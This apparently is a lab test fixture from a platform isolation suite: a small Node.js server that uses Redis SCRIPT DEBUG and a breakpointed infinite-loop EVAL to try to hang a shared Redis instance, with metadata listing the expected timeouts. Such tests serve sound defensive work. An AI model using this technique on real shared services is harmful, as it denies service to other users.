// exploit: has its Redis stop inside a script for somebody to look at, who never comes, forked and not, and says at the end that it is another user
// part: no
// kind: lab
// steps: GET / | wait 30 | GET /
// outcome: finished cpu-timeout wall-timeout
// sees: "status":200
// job: {"services":["redis"],"listsKeys":true,"limits":{"wallMs":10000}}
const net = require('node:net')
require('node:http').createServer((req, res) => {
  for (const mode of ['YES', 'SYNC']) {
    const socket = net.connect(process.env.REDIS_SOCKET).on('error', () => {})
    socket.write(`SCRIPT DEBUG ${mode}\r\nSET a 1 EX 100\r\nEVAL "redis.breakpoint() while true do end" 0\r\n`)
    socket.on('data', () => {})
  }
  setTimeout(() => res.end('ok'), 200)
}).listen(process.env.PORT)
